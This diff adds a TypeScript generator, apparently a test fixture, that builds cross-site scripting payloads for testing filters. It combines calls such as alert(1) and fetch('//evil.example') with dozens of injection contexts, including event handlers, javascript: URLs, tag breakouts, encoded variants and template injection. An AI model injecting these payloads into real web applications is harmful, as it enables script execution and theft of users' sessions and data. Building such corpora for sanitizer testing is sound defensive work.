@@ -1,0 +1,87 @@
+/** What somebody would have a browser run, in ways that filters have been seen to miss. */
+const CALLS = [
+  "alert(1)",
+  "confirm(1)",
+  "prompt(1)",
+  "top.alert(1)",
+  "self['al'+'ert'](1)",
+  "eval('alert(1)')",
+  "Function('alert(1)')()",
+  "setTimeout('alert(1)')",
+  "import('data:text/javascript,alert(1)')",
+  "window.ran=1",
+  "location='javascript:alert(1)'",
+  "document.write('<script>alert(1)</script>')",
+  "fetch('//evil.example')",
+  "open('//evil.example')",
+  "alert`1`",
+  "throw onerror=alert,1",
+  "\\u0061lert(1)",
+  "al\\u0065rt(1)",
+  "[1].map(alert)",
+  "print()",
+] as const;
+
+/** How it gets there: `X` is the call. */
+const WAYS = [
+  "<script>X</script>",
+  "<ScRiPt>X</sCrIpT>",
+  "<script/x>X</script>",
+  "<img src=x onerror=X>",
+  '<img src="x" onerror="X">',
+  "<svg onload=X>",
+  "<svg><script>X</script></svg>",
+  "<svg><animate onbegin=X attributeName=x dur=1s>",
+  "<iframe srcdoc='<script>X</script>'></iframe>",
+  '<iframe src="javascript:X"></iframe>',
+  '<a href="javascript:X">here</a>',
+  "<details open ontoggle=X>",
+  "<body onload=X>",
+  "<input autofocus onfocus=X>",
+  "<video><source onerror=X>",
+  "<math><mtext><img src=x onerror=X></math>",
+  "<object data='data:text/html,<script>X</script>'></object>",
+  "<embed src='javascript:X'>",
+  "<form action='javascript:X'><button autofocus>",
+  "<base href='javascript:X//'>",
+  "<link rel=import href='data:text/html,<script>X</script>'>",
+  "<meta http-equiv=refresh content='0;url=javascript:X'>",
+  "<style>@import 'javascript:X';</style>",
+  '"><script>X</script>',
+  "'><img src=x onerror=X>",
+  '" onmouseover="X" autofocus onfocus="X',
+  "' onfocus='X' autofocus='",
+  "` onfocus=X autofocus `",
+  "--><script>X</script>",
+  "</title><script>X</script>",
+  "</textarea><script>X</script>",
+  "</script><script>X</script>",
+  "</style><script>X</script>",
+  "</select><img src=x onerror=X>",
+  "]]><script>X</script>",
+  "&lt;script&gt;X&lt;/script&gt;",
+  "&#60;script&#62;X&#60;/script&#62;",
+  "%3Cscript%3EX%3C/script%3E",
+  "\\x3cscript\\x3eX\\x3c/script\\x3e",
+  "\u2028<script>X</script>",
+  "{{constructor.constructor('X')()}}",
+  ["$", "{X}"].join(""),
+  "javascript:X",
+  "jav\tascript:X",
+  "data:text/html,<script>X</script>",
+  "<noscript><p title='</noscript><img src=x onerror=X>'>",
+  "<template><script>X</script></template>",
+  "<xss style=animation-name:x onanimationstart=X>",
+  '=HYPERLINK("javascript:X")',
+  "\u202e<script>X</script>",
+] as const;
+
+/** So many of them, each different. */
+export function scriptPayloads(count: number): string[] {
+  const all = CALLS.flatMap((call, at) =>
+    WAYS.map((way, index) => ({ order: index * CALLS.length + ((at + index) % CALLS.length), text: way.replaceAll("X", call) })),
+  );
+  const found = [...new Set(all.sort((a, b) => a.order - b.order).map(({ text }) => text))];
+  // Taken evenly over all ways.
+  return Array.from({ length: Math.min(count, found.length) }, (_, index) => found[Math.floor((index * found.length) / count)] ?? "");
+}
